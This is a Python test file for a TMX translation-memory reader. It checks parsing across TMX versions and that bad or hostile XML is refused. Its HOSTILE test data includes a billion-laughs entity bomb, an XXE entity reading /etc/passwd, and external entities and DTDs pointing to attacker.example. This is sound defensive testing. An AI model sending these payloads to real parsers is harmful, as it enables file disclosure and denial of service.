"""The TMX reader: TMX 1.1-1.4 from other tools, inline codes flattened, hostile XML refused."""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime

import pytest

from tmx import TmxHeader, TmxParseError, TranslationUnit, Variant, read_tmx

PROLOG = b'<?xml version="1.0" encoding="UTF-8"?>\n'
HEADER = (b'<header creationtool="t" creationtoolversion="1" segtype="sentence" o-tmf="t"'
          b' adminlang="en" srclang="en" datatype="plaintext"/>\n')
TU = b'<tu><tuv xml:lang="en"><seg>Hello.</seg></tuv><tuv xml:lang="ru"><seg>Hi.</seg></tuv></tu>\n'
GOOD = PROLOG + b'<tmx version="1.4">\n' + HEADER + b"<body>\n" + TU * 3 + b"</body>\n</tmx>\n"


def read_all(data: bytes) -> tuple[TmxHeader, list[TranslationUnit]]:
    header, units = read_tmx(io.BytesIO(data))
    return header, list(units)


def tmx_with(body: bytes, version: bytes = b"1.4") -> bytes:
    return PROLOG + b'<tmx version="' + version + b'">\n' + HEADER + b"<body>\n" + body + \
        b"\n</body>\n</tmx>\n"


BILLION_LAUGHS = PROLOG + b'<!DOCTYPE tmx [\n<!ENTITY lol "lol">\n' + b"".join(
    b'<!ENTITY lol%d "%s">\n' % (n, (b"&lol%s;" % (str(n - 1).encode() if n > 1 else b"")) * 10)
    for n in range(1, 10)) + b"]>\n" + GOOD.split(b"\n", 1)[1].replace(b"Hello.", b"&lol9;")

HOSTILE = [
    ("billion laughs", BILLION_LAUGHS,
     "line 2: the file declares its own entities in its <!DOCTYPE> — that is how 'billion "
     "laughs' XML bombs work, so the file is refused"),
    ("external entity",
     PROLOG + b'<!DOCTYPE tmx [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
     + GOOD.split(b"\n", 1)[1].replace(b"Hello.", b"&xxe;"),
     "line 2: the file declares an external entity 'xxe' pointing to file:///etc/passwd — a "
     "TMX never needs one, and reading it could leak files from this computer, so the file is "
     "refused"),
    ("parameter entity",
     PROLOG + b'<!DOCTYPE tmx [\n<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd">\n'
     b"%dtd;\n]>\n" + GOOD.split(b"\n", 1)[1],
     "line 2: the file declares an external entity 'dtd' pointing to "
     "http://attacker.example/x.dtd — a TMX never needs one, and reading it could leak files "
     "from this computer, so the file is refused"),
    ("external DTD",
     PROLOG + b'<!DOCTYPE tmx SYSTEM "http://attacker.example/evil.dtd">\n'
     + GOOD.split(b"\n", 1)[1],
     "line 2: the file's <!DOCTYPE> points to an outside DTD (http://attacker.example/evil.dtd);"
     " only the TMX DTD (tmx14.dtd) is accepted, and it is never fetched"),
    ("entity from the DTD",
     PROLOG + b'<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n'
     + GOOD.split(b"\n", 1)[1].replace(b"Hello.", b"Hello&copy;"),
     "line 6: the text uses the entity &copy; which the file does not define — entities are "
     "not allowed"),
    ("truncated", GOOD[: GOOD.index(b"Hi.</seg></tuv></tu>\n<tu>")],
     "line 5: the file ends inside a <tu> — it is truncated"),
    ("truncated in a tag", GOOD[: GOOD.rindex(b"</tu>") + 3],
     "line 7: the file ends inside a <tu> — it is truncated"),
    ("truncated after a unit", GOOD[: GOOD.rindex(b"</body>")],
     "line 8: the file ends inside a <body> — it is truncated"),
    ("not XML", b"Source\tTarget\nHello.\tHi.\n",
     "line 1: this is not an XML file — a TMX file begins with <?xml or <tmx"),
    ("empty", b"", "the file is empty — it holds no TMX at all"),
    ("wrong root", PROLOG + b"<html><body><p>Hello</p></body></html>",
     "line 2: the file is XML but not a TMX: its root element is <html>, not <tmx>"),
    ("XLIFF", PROLOG + b'<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2"/>',
     "line 2: the file is XML but not a TMX: its root element is <xliff> (of the namespace "
     "urn:oasis:names:tc:xliff:document:1.2), not <tmx>"),
    ("a namespace not TMX's",
     GOOD.replace(b'<tmx version="1.4">', b'<tmx xmlns="urn:example:glossary" version="1.4">'),
     "line 2: the file's <tmx> is in the XML namespace urn:example:glossary, which is not "
     "TMX's (TMX 1.4 uses none) — it is not a TMX file"),
    ("billion laughs in TMX's namespace",
     BILLION_LAUGHS.replace(b'<tmx version="1.4">',
                            b'<tmx xmlns="http://www.lisa.org/tmx14" version="1.4">'),
     "line 2: the file declares its own entities in its <!DOCTYPE> — that is how 'billion "
     "laughs' XML bombs work, so the file is refused"),
    ("TMX 2", tmx_with(TU, b"2.0"), "line 2: this is TMX 2.0; only TMX 1.1 to 1.4 can be read"),
    ("HTML entity", tmx_with(TU.replace(b"Hello.", b"Hello&nbsp;there")),
     "line 5: the file uses the entity &nbsp; which XML does not know — only &amp; &lt; &gt; "
     "&quot; &apos; and numeric ones such as &#160; are allowed"),
    ("broken markup", tmx_with(TU.replace(b"</seg></tuv><tuv", b"</tuv><tuv")),
     "line 5: <seg> opened on line 5 is closed by </tuv> — the markup is broken"),
    ("bad encoding", tmx_with(TU.replace(b"Hello.", "Grüße".encode("latin-1"))),
     "line 5: the text is not in the encoding the file declares (UTF-8 unless its first line "
     "says otherwise) — save it as UTF-8"),
    ("control character", tmx_with(TU.replace(b"Hello.", b"Bell&#7;")),
     "line 5: the file contains a control character XML does not allow (code 7)"),
    ("no header", PROLOG + b'<tmx version="1.4">\n<body>\n' + TU + b"</body>\n</tmx>\n",
     "line 3: the <tmx> has no <header> before its <body>"),
    ("no language", tmx_with(TU.replace(b' xml:lang="ru"', b"")),
     "line 5: a <tuv> has no language (xml:lang, or lang in TMX 1.1-1.2)"),
    ("huge text node", tmx_with(TU.replace(b"Hello.", b"a" * 11_000_000)),
     "line 5: an element is absurdly large or deeply nested (a text over 10 MB, or 256 levels)"
     " — the file is refused"),
    ("huge segment", tmx_with(TU.replace(b"Hello.", b"<hi>abcd</hi>" * 300_000)),
     "line 5: a <seg> holds more than 1,000,000 characters — absurdly large for a translation "
     "unit, so the file is refused"),
    ("huge plain segment", tmx_with(TU.replace(b"Hello.", b"a" * 1_100_000)),
     "line 5: a <seg> holds more than 1,000,000 characters — absurdly large for a translation "
     "unit, so the file is refused"),
    ("deep nesting", tmx_with(TU.replace(b"Hello.", b"<hi>" * 300 + b"x" + b"</hi>" * 300)),
     "line 5: an element is absurdly large or deeply nested (a text over 10 MB, or 256 levels)"
     " — the file is refused"),
    ("two files", GOOD + GOOD.split(b"\n", 1)[1],
     "line 10: there is more after the closing </tmx> — two files pasted together?"),
]


@pytest.mark.parametrize(("data", "message"), [(d, m) for _, d, m in HOSTILE],
                         ids=[name for name, _, _ in HOSTILE])
def test_bad_and_hostile_files_are_refused_with_a_plain_sentence(data: bytes, message: str) -> None:
    with pytest.raises(TmxParseError) as raised:
        read_all(data)
    assert str(raised.value) == message
    assert isinstance(raised.value, ValueError)


@pytest.mark.parametrize("prefixed", [False, True], ids=["default namespace", "prefix"])
def test_a_tmx_in_lisas_namespace_is_read_as_any_tmx(prefixed: bool) -> None:
    # As some tools write it: every element in the namespace, xml:lang as ever.
    rich = tmx_with(b'<tu tuid="7" creationdate="20190603T101500Z"><prop type="x-client">MID'
                    b'</prop><note>checked</note><tuv xml:lang="en"><seg>The <bpt i="1">{b}'
                    b'</bpt>Council<ept i="1">{/b}</ept> met.</seg></tuv><tuv xml:lang="ru">'
                    + "<seg>Совет собрался.</seg></tuv></tu>".encode() + TU)
    plain_header, plain_units = read_all(rich)
    if prefixed:
        namespaced = re.sub(rb"<(/?)([a-z]+)", rb"<\1t:\2", rich).replace(
            b't:tmx version="1.4"', b't:tmx xmlns:t="http://www.lisa.org/tmx14" version="1.4"')
    else:
        namespaced = rich.replace(b'<tmx version="1.4">',
                                  b'<tmx xmlns="http://www.lisa.org/tmx14" version="1.4">')
    header, units = read_all(namespaced)
    assert header == plain_header and units == plain_units
    assert units[0].variants[0].text == "The Council met." and units[0].tuid == "7"
    assert units[0].properties == (("x-client", "MID"),) and units[0].notes == ("checked",)
    assert len(units) == 2


def test_the_limits_hold_in_tmxs_namespace_too() -> None:
    many = tmx_with(b"<tu>" + b'<tuv xml:lang="en"><seg>a</seg></tuv>' * 20 + b"</tu>")
    namespaced = many.replace(b'<tmx version="1.4">',
                              b'<tmx xmlns="http://www.lisa.org/tmx14" version="1.4">')
    with pytest.raises(TmxParseError, match="more than 10 variants"):
        header, units = read_tmx(io.BytesIO(namespaced), max_variants=10)
        list(units)


def test_the_error_carries_the_line_number() -> None:
    with pytest.raises(TmxParseError) as raised:
        read_all(GOOD[: GOOD.index(b"Hi.</seg></tuv></tu>\n<tu>")])
    assert raised.value.line == 5
    assert raised.value.reason == "the file ends inside a <tu> — it is truncated"


def test_a_large_file_cut_short_is_reported_truncated() -> None:
    data = tmx_with(TU * 20_000)
    cut = data[: data.index(b"Hi.", len(TU) * 19_985)]
    line = cut.count(b"\n") + 1
    assert line > 19_980
    with pytest.raises(TmxParseError, match=rf"^line {line}: the file ends inside a <tu> — it is"):
        read_all(cut)


TMX11 = """<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "tmx11.dtd">
<tmx version="1.1">
<header creationtool="Wordfast" creationtoolversion="3" segtype="sentence" o-tmf="wf"
        adminlang="EN-US" srclang="EN-US" datatype="plaintext" creationdate="20010203T040506Z">
<prop type="Domain">Diplomacy</prop>
</header>
<body>
<tu tuid="42" creationdate="20010203T040506Z" changedate="2001-02-04T05:06:07Z">
<note>first</note><note>second</note>
<prop type="Client">MID</prop>
<tuv lang="EN-US" creationid="ivanova" changedate="20010205T000000Z"
><prop type="x-tuv">kept</prop><note>checked</note><seg>The <bpt i="1">&lt;b&gt;</bpt
>Council<ept i="1">&lt;/b&gt;</ept> met.<ph>&lt;br/&gt;</ph></seg></tuv>
<tuv lang="RU-RU"><seg><it pos="begin">{\\b </it>Совет<ut>}</ut> собрался <hi
type="x">вчера</hi>.</seg></tuv>
</tu>
</body>
</tmx>
""".encode()


def test_a_tmx_11_file_with_lang_and_inline_codes_is_read() -> None:
    header, units = read_all(TMX11)
    assert header == TmxHeader(
        srclang="EN-US", creation_tool="Wordfast", creation_tool_version="3",
        segtype="sentence", o_tmf="wf", adminlang="EN-US", datatype="plaintext",
        creation_date=datetime(2001, 2, 3, 4, 5, 6, tzinfo=UTC),
        properties=(("Domain", "Diplomacy"),))
    assert units == [TranslationUnit(
        tuid="42",
        variants=(Variant("EN-US", "The Council met.",
                          (("creationid", "ivanova"), ("changedate", "20010205T000000Z")),
                          (("x-tuv", "kept"),), ("checked",)),
                  Variant("RU-RU", "Совет собрался вчера.")),
        properties=(("Client", "MID"),),
        creation_date=datetime(2001, 2, 3, 4, 5, 6, tzinfo=UTC),
        change_date=datetime(2001, 2, 4, 5, 6, 7, tzinfo=UTC),
        notes=("first", "second"),
    )]
    assert units[0].note == "first\nsecond"


@pytest.mark.parametrize(("seg", "text"), [
    # The example: the label of a button inside the code that opens it.
    (b'Click <bpt i="1">&lt;button title="<sub>Start Here!</sub>"&gt;</bpt><ept i="1">'
     b'&lt;/button&gt;</ept> to start.', "Click Start Here! to start."),
    (b'See <ph>&lt;img alt="<sub>Photo</sub>"&gt;</ph> here.', "See Photo here."),
    # Set off from text it would touch, so that its words stay words.
    (b'Text<ph type="fnote">{\\footnote <sub>A note.</sub>}</ph>goes on.',
     "Text A note. goes on."),
    # ... but not from punctuation or brackets.
    (b'Go (<ph>&lt;a title="<sub>home</sub>"&gt;</ph>), now.', "Go (home), now."),
    (b'<bpt i="1">&lt;a title="<sub>Home</sub>"&gt;</bpt>Start<ept i="1">&lt;/a&gt;</ept>',
     "Home Start"),
    (b'<ph>&lt;a title="<sub>One</sub>" alt="<sub>Two</sub>"&gt;</ph><hi>x</hi>', "One Two x"),
    # A sub-flow with its own codes, sub-flows and highlights.
    (b'A <ph>{<sub>B <ph>[<sub>C</sub>]</ph> <hi>D</hi></sub>}</ph> E', "A B C D E"),
    (b'Empty <ph>{<sub> </sub>}</ph> flow.', "Empty  flow."),
], ids=["button", "alt", "footnote", "punctuation", "title", "two-and-hi", "nested", "blank"])
def test_sub_flow_text_stays_where_its_code_stood(seg: bytes, text: str) -> None:
    body = (b'<tu><tuv xml:lang="en"><seg>' + seg + b'</seg></tuv><tuv xml:lang="de">'
            b'<seg>Hallo.</seg></tuv></tu>')
    _, units = read_all(tmx_with(body))
    assert units[0].variants[0].text == text


@pytest.mark.parametrize(("seg", "text"), [
    (b"The file<ph>&lt;br/&gt;</ph>was saved.", "The file was saved."),
    (b"Version<ph/>2.0", "Version 2.0"),  # a placeholder that says nothing: a word apart
    (b"A<ph>&amp;nbsp;</ph>B", "A B"),
    # a formatting code is no word break, and no space goes before punctuation
    (b"un<ph>&lt;b&gt;</ph>believ<ph>&lt;/b&gt;</ph>able", "unbelievable"),
    (b"Tom<ph x=\"1\"/>'s", "Tom's"),
    (b"<ph/>Start", "Start"),
], ids=["br", "empty", "nbsp", "formatting", "punctuation", "first"])
def test_a_placeholder_between_two_words_keeps_them_apart(seg: bytes, text: str) -> None:
    body = (b'<tu><tuv xml:lang="en"><seg>' + seg + b'</seg></tuv><tuv xml:lang="de">'
            b'<seg>Hallo.</seg></tuv></tu>')
    _, units = read_all(tmx_with(body))
    assert units[0].variants[0].text == text


def test_utf16_files_are_read() -> None:
    data = GOOD.replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16")
    _, units = read_all(data)
    assert len(units) == 3


def test_comments_and_missing_optional_parts_are_tolerated() -> None:
    body = (b'<!-- a comment --><tu><tuv xml:lang="en"><seg>A<!-- c -->B</seg></tuv>'
            b'<tuv xml:lang="fr"/></tu>')
    _, units = read_all(tmx_with(body))
    assert units[0].variants == (Variant("en", "AB"), Variant("fr", ""))
    assert units[0].creation_date is None and units[0].tuid is None


def test_unreadable_dates_are_left_out_rather_than_refusing_the_file() -> None:
    _, units = read_all(tmx_with(TU.replace(b"<tu>", b'<tu creationdate="yesterday">')))
    assert units[0].creation_date is None


def test_units_are_read_lazily() -> None:
    header, units = read_tmx(io.BytesIO(GOOD[: GOOD.rindex(b"<tu>")]))
    assert header.srclang == "en"
    assert next(units).variants[1] == Variant("ru", "Hi.")
    with pytest.raises(TmxParseError, match="truncated"):
        list(units)


class Trickle(io.RawIOBase):
    """A source that answers every read with a few bytes, as pipes and sockets may."""

    def __init__(self, data: bytes) -> None:
        self._data = io.BytesIO(data)

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        return self._data.read(min(size, 7) if size >= 0 else 7)


def test_short_reads_are_fine() -> None:
    header, units = read_tmx(Trickle(GOOD))  # type: ignore[arg-type]
    assert header.srclang == "en" and len(list(units)) == 3
    with pytest.raises(TmxParseError, match="^line 7: the file ends inside a <tu> — it is"):
        list(read_tmx(Trickle(GOOD[:-100]))[1])  # type: ignore[arg-type]


def test_zanata_s_prop_name_is_read_as_its_type() -> None:
    # Zanata's TMX export (a real file: tests/data/tmx/) names its properties with ``name``,
    # not TMX's ``type``: the name is kept as the type, on the header, units and variants.
    from pathlib import Path

    data = (Path(__file__).resolve().parents[1] / "data" / "tmx"
            / "zanata_valid-tmx-with-metadata.tmx").read_bytes()
    header, units = read_tmx(io.BytesIO(data))
    first, second, *_rest = units
    assert header.properties == (("doc0:resId1:prop1", "Header Prop value"),)
    assert first.properties == (("doc0:resId0:prop0", "Custom prop0 value"),)
    assert first.variants[0].properties == (("doc0:resId0:tuv0:prop0",
                                             "Custom prop0 value on tuv"),)
    assert second.properties == (("doc0:resId1:prop0", "Custom prop0 value"),
                                 ("doc0:resId1:prop1", "Custom prop1 value"))
    # A <prop> with a type keeps it, even an empty one.
    _header, [unit] = read_tmx(io.BytesIO(
        b'<tmx version="1.4"><header srclang="en"/><body><tu><prop type="" name="n">v</prop>'
        b'<tuv xml:lang="en"><seg>a</seg></tuv><tuv xml:lang="de"><seg>b</seg></tuv></tu>'
        b'</body></tmx>'))
    assert unit.properties == (("", "v"),)
